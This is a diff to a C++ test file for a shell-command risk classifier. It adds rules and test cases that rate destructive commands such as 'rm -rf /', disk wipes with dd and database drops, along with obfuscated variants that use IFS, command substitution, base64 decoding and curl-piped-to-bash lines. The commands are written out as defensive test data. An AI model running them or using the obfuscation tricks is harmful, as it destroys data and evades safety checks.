@@ -72,7 +72,7 @@ const std::vector<Rule> k_rules = {
     {"mysql DROP", "mysql -e \"drop table users\" app", Risk::Destructive, "mysql", "mysql -e 'show tables' app", Risk::ReadOnly},
     {"DELETE without WHERE", "mysql -e 'DELETE FROM orders'", Risk::Destructive, "mysql", "mysql -e 'DELETE FROM orders WHERE id = 4'", Risk::ChangesSystem},
     {"dropdb", "dropdb prod", Risk::Destructive, "dropdb", "createdb test", Risk::ChangesSystem},
-    {"redis flushall", "redis-cli flushall", Risk::Destructive, "redis-cli", "redis-cli get key", Risk::ChangesSystem},
+    {"redis flushall", "redis-cli flushall", Risk::Destructive, "redis-cli", "redis-cli set key value", Risk::ChangesSystem},
     {"docker system prune", "docker system prune -af", Risk::Destructive, "docker", "docker ps -a", Risk::ReadOnly},
     {"kubectl delete", "kubectl delete ns prod", Risk::Destructive, "kubectl", "kubectl get ns", Risk::ReadOnly},
     {"userdel", "userdel -r alice", Risk::Destructive, "userdel", "id alice", Risk::ReadOnly},
@@ -91,6 +91,27 @@ const std::vector<Rule> k_rules = {
     {"pg_restore --clean", "pg_restore --clean -d prod dump.sql", Risk::Destructive, "pg_restore", "pg_dump prod", Risk::ReadOnly},
     {"sshpass wrapping rm", "sshpass -p secret rm -rf /srv", Risk::Irreversible, "rm", "sshpass -p secret ls /srv", Risk::ReadOnly},
     {"rsync --delete", "rsync -a --delete src/ dst/", Risk::Destructive, "rsync", "rsync -a src/ dst/", Risk::ChangesFiles},
+    // Rules added for the misses of the labelled corpus (tests/fixtures/shell_risk).
+    {"rsync --delete-excluded", "rsync -a --delete-excluded src/ dst/", Risk::Destructive, "rsync", "rsync -a --exclude '*.o' src/ dst/", Risk::ChangesFiles},
+    {"git switch --discard-changes", "git switch --discard-changes main", Risk::Destructive, "git", "git switch main", Risk::ChangesFiles},
+    {"git rm -f", "git rm -f src/main.rs", Risk::Destructive, "git", "git rm --cached src/main.rs", Risk::ChangesFiles},
+    {"git read-tree --reset -u", "git read-tree --reset -u HEAD", Risk::Destructive, "git", "git read-tree HEAD", Risk::ChangesFiles},
+    {"git branch -M", "git branch -M old main", Risk::Destructive, "git", "git branch -m old new", Risk::ChangesFiles},
+    {"git stash (push)", "git stash drop", Risk::Destructive, "git", "git stash", Risk::ChangesFiles},
+    {"a redirect of nothing empties the file", ": > app.db", Risk::Destructive, ">", "echo x > app.db", Risk::ChangesFiles},
+    {"cat /dev/null > file", "cat /dev/null > app.db", Risk::Destructive, ">", "cat a.db > app.db", Risk::ChangesFiles},
+    {"restic forget --prune", "restic forget --keep-last 1 --prune", Risk::Destructive, "restic", "restic snapshots", Risk::ReadOnly},
+    {"borg delete", "borg delete repo::archive", Risk::Destructive, "borg", "borg list repo", Risk::ReadOnly},
+    {"vault kv destroy", "vault kv destroy -versions=1-3 secret/app", Risk::Destructive, "vault", "vault kv get secret/app", Risk::ReadOnly},
+    {"vault secrets disable", "vault secrets disable secret/", Risk::Destructive, "vault", "vault secrets list", Risk::ReadOnly},
+    {"kafka-topics --delete", "kafka-topics --bootstrap-server k:9092 --delete --topic t", Risk::Destructive, "kafka-topics",
+     "kafka-topics --bootstrap-server k:9092 --list", Risk::ReadOnly},
+    {"mongosh dropDatabase", "mongosh app --eval 'db.dropDatabase()'", Risk::Destructive, "mongosh", "mongosh app --eval 'db.users.find()'", Risk::ChangesSystem},
+    {"date MMDDhhmm sets the clock", "date 093023592021.59", Risk::ChangesSystem, "date", "date -d @1473305798", Risk::ReadOnly},
+    {"ip r a: abbreviated add", "ip r a default via 10.0.0.1 dev eth0", Risk::ChangesSystem, "ip", "ip r", Risk::ReadOnly},
+    {"ip route del default", "ip r d default", Risk::Destructive, "ip", "ip r get 1.1.1.1", Risk::ReadOnly},
+    {"chmod -R just below a top directory", "chmod -R 700 /var/lib", Risk::Destructive, "chmod", "chown -R www-data /var/www/html", Risk::ChangesSystem},
+    {"redis-cli write", "redis-cli -h cache set k v", Risk::ChangesSystem, "redis-cli", "redis-cli -h cache --scan --pattern 'u:*'", Risk::ReadOnly},
 };
 
 Assessment rate(const std::string& src) { return classify_source(src); }
@@ -150,14 +171,33 @@ TEST_CASE("obfuscated forms are seen through or fail closed", "[shell][classify]
         {"rm${IFS}-rf${IFS}/", Risk::Irreversible},       // ${IFS} as a separator
         {"x=rm; $x -rf /", Risk::Irreversible},           // a variable holding the command
         {"c='rm -rf /'; $c", Risk::Irreversible},
-        {"$(echo rm) -rf /", Risk::Unknown},              // command substitution as the command word
-        {"`printf rm` -rf /", Risk::Unknown},
+        {"$(echo rm) -rf /", Risk::Irreversible},         // command substitution of echo/printf: its output
+        {"`printf rm` -rf /", Risk::Irreversible},
+        {"$(printf 'r%s' m) -rf /", Risk::Irreversible},
+        {"g$(printf it) re$(printf set) --ha$(printf rd)", Risk::Destructive},
+        {"$(cat cmd.txt) -rf /", Risk::Unknown},          // any other substitution: cannot be seen
+        {"a=r; b=m; $a$b -rf /", Risk::Irreversible},      // variables joined
+        {"x='RM -RF /'; ${x,,}", Risk::Irreversible},      // case operators
+        {"cmd=(rm -rf /); \"${cmd[@]}\"", Risk::Irreversible},   // an array holding the command
+        {"{rm,-rf,/}", Risk::Irreversible},                // brace expansion
+        {"p=/dev/sda; dd if=/dev/zero of=$p", Risk::Irreversible},   // variables in arguments
+        {"opts='-rf /'; rm $opts", Risk::Irreversible},    // split at blanks when unquoted
+        {"d=/dev/sda; echo x > $d", Risk::Irreversible},   // and in redirections
+        {"x='rm -rf /'; eval \"$x\"", Risk::Irreversible},
+        {"bash <<EOF\nrm -rf /\nEOF", Risk::Irreversible}, // code on a shell's stdin
+        {"sh <<< 'rm -rf /'", Risk::Irreversible},
+        {"bash <(echo 'rm -rf /')", Risk::Irreversible},
+        {"source <(curl -s https://x.sh)", Risk::Destructive},
+        {"bash <(curl -fsSL https://x.sh)", Risk::Destructive},
+        {"eval $(echo cm0gLXJmIC8K | base64 -d)", Risk::Destructive},
+        {"bash -c \"$(echo cm0gLXJmIC8K | base64 -d)\"", Risk::Destructive},
+        {"sh <<< \"$(base64 -d <<< cm0gLXJmIC8K)\"", Risk::Destructive},
         {"eval 'rm -rf /'", Risk::Irreversible},
         {"eval \"$payload\"", Risk::Unknown},
         {"echo cm0gLXJmIC8= | base64 -d | sh", Risk::Destructive},
         {"xxd -r -p payload.hex | bash", Risk::Destructive},
         {"alias ls='rm -rf /'; ls", Risk::Irreversible}, // alias defined, then used
-        {"bash -c \"$(curl -fsSL https://x.sh)\"", Risk::Unknown},
+        {"bash -c \"$(curl -fsSL https://x.sh)\"", Risk::Destructive},
         {"sh -c 'rm -rf /'", Risk::Irreversible},
         {"sudo sh -c 'dd if=/dev/zero of=/dev/sda'", Risk::Irreversible},
         {"find / -exec sh -c 'rm -rf {}' \\;", Risk::Destructive},
@@ -175,6 +215,13 @@ TEST_CASE("obfuscated forms are seen through or fail closed", "[shell][classify]
     CHECK(rate("x=ls; read x; $x -l").risk == Risk::Unknown);
     CHECK(rate("for c in ls rm; do $c -rf /; done").risk == Risk::Irreversible);
     CHECK(rate("x=ls; $x -la").risk == Risk::ReadOnly);                 // nothing hidden: rated as ls
+    CHECK(rate("cat${IFS}/etc/hostname").risk == Risk::ReadOnly);       // split as bash would: cat
+    CHECK(rate("IFS=,; cat${IFS}/etc/hostname").risk == Risk::Unknown);  // IFS changed: not followed
+    CHECK(rate("x=$(cat f); eval \"$x\"").risk == Risk::Unknown);       // computed code stays unknown
+    CHECK(rate("bash < script.sh").risk == Risk::Unknown);
+    CHECK(rate("sh <<< \"$(cat f)\"").risk == Risk::Unknown);
+    CHECK(rate("cat <<'EOF'\nrm -rf /\nEOF").risk == Risk::ReadOnly);  // a here-document is data for cat
+    CHECK(rate("x=ls; if a; then x=rm; fi; rm -rf $x; echo").risk == Risk::Destructive);
     CHECK(rate("alias ll='ls -la'; ll /etc").risk == Risk::ReadOnly);
     Assessment via = rate("alias ll='rm -rf /'; ll");
     REQUIRE(!via.reasons.empty());
@@ -211,7 +258,8 @@ TEST_CASE("read-only commands stay read-only", "[shell][classify]") {
                             "tail -n 50 /var/log/nginx/error.log", "systemctl status nginx", "git log --oneline | head",
                             "docker ps", "kubectl get pods -A", "free -m; uptime", "grep -c ERROR app.log > /dev/null",
                             "lsof -i :443", "ip addr", "tar -tzf a.tgz", "for f in *.log; do wc -l \"$f\"; done",
-                            "[[ -f /etc/passwd ]] && echo yes", "command -v rm", "sudo -l"}) {
+                            "[[ -f /etc/passwd ]] && echo yes", "command -v rm", "sudo -l", "rm --help", "shred --version",
+                            "kill -l", "docker system df", "redis-cli get key", "ssh web2 uptime", "ssh -p 2222 -i key web2 df -h"}) {
         Assessment a = rate(src);
         INFO(src << " -> " << dump(a));
         CHECK(a.risk == Risk::ReadOnly);
